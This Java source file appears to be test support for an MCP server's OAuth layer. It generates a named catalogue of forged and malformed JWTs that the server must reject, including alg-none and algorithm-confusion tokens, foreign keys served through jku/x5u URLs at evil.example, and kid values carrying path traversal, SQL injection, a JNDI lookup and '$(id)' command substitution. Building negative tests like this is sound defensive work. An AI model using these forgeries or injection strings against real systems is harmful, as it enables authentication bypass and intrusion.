package io.qicore.mcp.attack;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.KeyUse;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.EncryptedJWT;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import io.qicore.mcp.auth.oauth.Issuer;
import java.net.URI;
import java.time.Instant;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Tokens that the server of {@link Issuer#AUDIENCE} must not accept, by what is wrong with them. */
final class TokenAttacks {

    private final Issuer issuer;
    private final Map<String, String> tokens = new LinkedHashMap<>();

    private TokenAttacks(Issuer issuer) {
        this.issuer = issuer;
    }

    static Map<String, String> of(Issuer issuer) throws Exception {
        TokenAttacks attacks = new TokenAttacks(issuer);
        attacks.claims();
        attacks.signatures();
        attacks.foreignKeys();
        attacks.headers();
        attacks.forms();
        return attacks.tokens;
    }

    private JWTClaimsSet.Builder good() {
        return issuer.claims("mallory", "admin");
    }

    private void claims() throws Exception {
        Instant now = Instant.now();
        put("expired", good().expirationTime(Date.from(now.minusSeconds(60))));
        put("expired long ago", good().expirationTime(new Date(0)));
        put("expires before it begins to be valid", good().expirationTime(new Date(-1_000)));
        put("not yet valid", good().notBeforeTime(Date.from(now.plusSeconds(120))));
        put("no expiry", good().expirationTime(null));
        put("no subject", good().subject(null));
        put("blank subject", good().subject(" "));
        put("subject with a line", good().subject("a\nb"));
        put("subject with an issuer", good().subject("https://other.example\tmallory"));
        put("other issuer", good().issuer("https://evil.example"));
        put("issuer with a slash", good().issuer(issuer.uri() + "/"));
        put("issuer in upper case", good().issuer(issuer.uri().toString().toUpperCase(java.util.Locale.ROOT)));
        put("no issuer", good().issuer(null));
        put("other audience", good().audience("https://mcp.example.com/other"));
        put("audience that begins the same", good().audience(Issuer.AUDIENCE + "/x"));
        put("audience with a slash", good().audience(Issuer.AUDIENCE + "/"));
        put("audience of the host", good().audience("https://mcp.example.com"));
        put("audience as one text of two", good().audience("https://other.example " + Issuer.AUDIENCE));
        put("no audience", good().audience((String) null));
        put("empty audience", good().audience(List.of()));
        tokens.put("claims that are not an object", issuer.signText("[]"));
        tokens.put("nothing signed", issuer.signText(""));
        tokens.put("nested far", issuer.signText("[".repeat(3_000)));
    }

    private void signatures() throws Exception {
        JWTClaimsSet good = good().build();
        String[] real = issuer.sign(good).split("\\.");
        tokens.put("alg none", new PlainJWT(good).serialize());
        for (String algorithm : List.of(
                "none",
                "None",
                "NONE",
                "nOnE",
                " none",
                "",
                "null",
                "rs256",
                "Rs256",
                "RS256 ",
                "RS1",
                "HS256",
                "hs256",
                "HS384",
                "HS512",
                "ES256K",
                "EdDSA",
                "dir",
                "RSA-OAEP",
                "PBES2-HS256+A128KW")) {
            String header = Base64URL.encode("{\"alg\":\"" + algorithm + "\",\"kid\":\"one\"}") + "." + real[1] + ".";
            tokens.put("alg '" + algorithm + "'", header + real[2]);
            tokens.put("alg '" + algorithm + "' without a signature", header);
        }
        for (String header : List.of(
                "{}",
                "{\"alg\":null}",
                "{\"alg\":[\"RS256\"]}",
                "{\"alg\":1}",
                "{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":\"one\"}",
                "{\"alg\":\"RS256\",\"alg\":\"none\"}",
                "{\"ALG\":\"none\"}",
                "null",
                "",
                "[]")) {
            tokens.put("header " + header, Base64URL.encode(header) + "." + real[1] + "." + real[2]);
        }
        tokens.put("signature cut off", real[0] + "." + real[1] + ".");
        tokens.put("signature left out", real[0] + "." + real[1]);
        tokens.put("signature of nulls", real[0] + "." + real[1] + "." + Base64URL.encode(new byte[256]));
        tokens.put(
                "signature of another token",
                real[0] + "." + real[1] + "." + issuer.token("b", "read").split("\\.")[2]);
        tokens.put(
                "claims changed",
                real[0] + "."
                        + Base64URL.encode(
                                issuer.claims("root", "admin").build().toString()) + "." + real[2]);
        issuer.publish(new ECKeyGenerator(com.nimbusds.jose.jwk.Curve.P_256)
                .keyID("curve")
                .generate()
                .toPublicJWK());
        tokens.put(
                "signature of zeros for a curve",
                Base64URL.encode("{\"alg\":\"ES256\",\"kid\":\"curve\"}") + "." + real[1] + "."
                        + Base64URL.encode(new byte[64]));
        byte[] publicKey = issuer.key().toRSAPublicKey().getEncoded();
        byte[] pem =
                ("-----BEGIN PUBLIC KEY-----\n" + Base64.encode(publicKey) + "\n-----END PUBLIC KEY-----\n").getBytes();
        put("HMAC with the public key", hmac(publicKey, "one"));
        put("HMAC with the public key in PEM", hmac(pem, "one"));
        put(
                "HMAC with the public key as JWK",
                hmac(issuer.key().toPublicJWK().toJSONString().getBytes(), "one"));
        put("HMAC with an empty file", hmac(new byte[32], "../../../../../../dev/null"));
        put(
                "HMAC with what SQL would return",
                hmac("k".repeat(32).getBytes(), "x' UNION SELECT 'kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk"));
    }

    private SignedJWT hmac(byte[] key, String kid) throws Exception {
        SignedJWT token = new SignedJWT(
                new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(kid).build(), good().build());
        token.sign(new MACSigner(key));
        return token;
    }

    private void foreignKeys() throws Exception {
        RSAKey foreign = Issuer.newKey("one");
        JWSHeader.Builder header = Issuer.header(foreign);
        URI evil = URI.create("https://evil.example/keys");
        foreign("same kid", foreign, header);
        foreign("no kid", foreign, Issuer.header(foreign).keyID(null));
        foreign("jwk", foreign, Issuer.header(foreign).jwk(foreign.toPublicJWK()));
        foreign("jwk without kid", foreign, Issuer.header(foreign).keyID(null).jwk(foreign.toPublicJWK()));
        foreign("jku", foreign, Issuer.header(foreign).jwkURL(evil));
        foreign(
                "jku of the issuer's host",
                foreign,
                Issuer.header(foreign).jwkURL(issuer.uri().resolve("/evil")));
        foreign("x5u", foreign, Issuer.header(foreign).x509CertURL(evil));
        foreign("x5c", foreign, Issuer.header(foreign).x509CertChain(List.of(Base64.encode(new byte[300]))));
        foreign("x5t", foreign, Issuer.header(foreign).x509CertSHA256Thumbprint(foreign.computeThumbprint()));
        for (String kid : List.of(
                "../../one",
                "/etc/passwd",
                "one\u0000",
                "ONE",
                "one ",
                "' OR '1'='1",
                "one;two",
                "${jndi:ldap://evil.example/a}",
                "$(id)",
                "k".repeat(3_000))) {
            foreign(
                    "kid " + (kid.length() > 50 ? "that is long" : kid),
                    foreign,
                    Issuer.header(foreign).keyID(kid));
        }
        RSAKey forEncryption =
                new RSAKeyGenerator(2048).keyID("enc").keyUse(KeyUse.ENCRYPTION).generate();
        issuer.publish(forEncryption.toPublicJWK());
        foreign("key of the issuer for encryption", forEncryption, Issuer.header(forEncryption));
    }

    private void foreign(String what, RSAKey key, JWSHeader.Builder header) throws Exception {
        tokens.put("foreign key: " + what, Issuer.sign(good().build(), key, header.build()));
    }

    private void headers() throws Exception {
        for (String critical : List.of("exp", "http://example.com/UNDEFINED")) {
            JWSHeader.Builder header =
                    Issuer.header(issuer.key()).criticalParams(Set.of(critical)).customParam(critical, 1);
            tokens.put("critical " + critical, Issuer.sign(good().build(), issuer.key(), header.build()));
        }
        for (String type : List.of("logout+jwt", "dpop+jwt", "id_token", "JWE")) {
            tokens.put(
                    "type " + type,
                    Issuer.sign(
                            good().build(),
                            issuer.key(),
                            Issuer.header(issuer.key())
                                    .type(new JOSEObjectType(type))
                                    .build()));
        }
        JWSObject nested = new JWSObject(
                Issuer.header(issuer.key()).contentType("JWT").build(), new Payload(issuer.sign(good().build())));
        nested.sign(new RSASSASigner(issuer.key()));
        tokens.put("token in a token", nested.serialize());
    }

    private void forms() throws Exception {
        JWTClaimsSet good = good().build();
        String real = issuer.sign(good);
        String[] parts = real.split("\\.");
        EncryptedJWT encrypted =
                new EncryptedJWT(new JWEHeader(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A256GCM), good);
        encrypted.encrypt(new RSAEncrypter(issuer.key().toRSAPublicKey()));
        put("encrypted", encrypted);
        EncryptedJWT direct = new EncryptedJWT(
                new JWEHeader.Builder(JWEAlgorithm.DIR, EncryptionMethod.A256GCM)
                        .compressionAlgorithm(com.nimbusds.jose.CompressionAlgorithm.DEF)
                        .build(),
                new JWTClaimsSet.Builder(good)
                        .claim("bomb", "0".repeat(100_000))
                        .build());
        direct.encrypt(new com.nimbusds.jose.crypto.DirectEncrypter(new byte[32]));
        put("compressed", direct);
        tokens.put(
                "JSON serialization",
                "{\"payload\":\"" + parts[1] + "\",\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2]
                        + "\"}");
        tokens.put("no token", "x");
        tokens.put("dots", "..");
        tokens.put("many dots", ".".repeat(2_000));
        tokens.put("two in one", real + "," + real);
        tokens.put("with a blank", real + " x");
        tokens.put("with a parameter", real + ";x=y");
        tokens.put("in quotes", "\"" + real + "\"");
        tokens.put("in percent encoding", real.replace(".", "%2E"));
        tokens.put("in ordinary Base64", "+" + real + "/==");
        tokens.put("with padding", real + "=");
        tokens.put(
                "with the letters of ordinary Base64",
                parts[0] + "." + parts[1] + "." + Base64.encode(new Base64URL(parts[2]).decode()));
        tokens.put("with a tab", real + "\tx");
        tokens.put("with letters of another alphabet", real + "\u00e4");
        tokens.put("very long", "a".repeat(5_000));
        tokens.put("very long parts", "e30." + "A".repeat(5_000) + ".AA");
    }

    private void put(String name, JWTClaimsSet.Builder claims) throws Exception {
        tokens.put(name, issuer.sign(claims.build()));
    }

    private void put(String name, com.nimbusds.jose.JOSEObject token) {
        tokens.put(name, token.serialize());
    }
}
